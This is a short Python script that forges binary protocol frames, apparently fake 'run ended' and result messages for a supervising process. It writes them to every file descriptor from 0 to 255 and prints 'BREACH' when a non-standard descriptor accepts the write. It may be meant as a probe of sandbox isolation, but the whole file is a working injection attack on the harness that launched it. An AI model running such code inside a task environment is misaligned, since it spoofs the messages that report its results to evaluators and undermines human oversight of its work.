import os
import struct


def frame(kind, run, payload=b""):
    return struct.pack("<IBI", len(payload) + 5, kind, run) + payload


def field(tag, value):
    return struct.pack("<BI", tag, len(value)) + value


ended = field(1, b"\0") + field(2, b"\0") + field(3, b"\0\0\0\0") + field(6, b"\0" * 8) + field(7, b"\0" * 8)
forged = b"".join(frame(0x85, run, ended) + frame(0x86, run, field(1, b"\0")) for run in range(1, 20))
for descriptor in range(0, 256):
    try:
        os.write(descriptor, forged)
    except OSError:
        continue
    if descriptor > 2:
        os.write(1, b"BREACH descriptor %d" % descriptor)
os._exit(3)
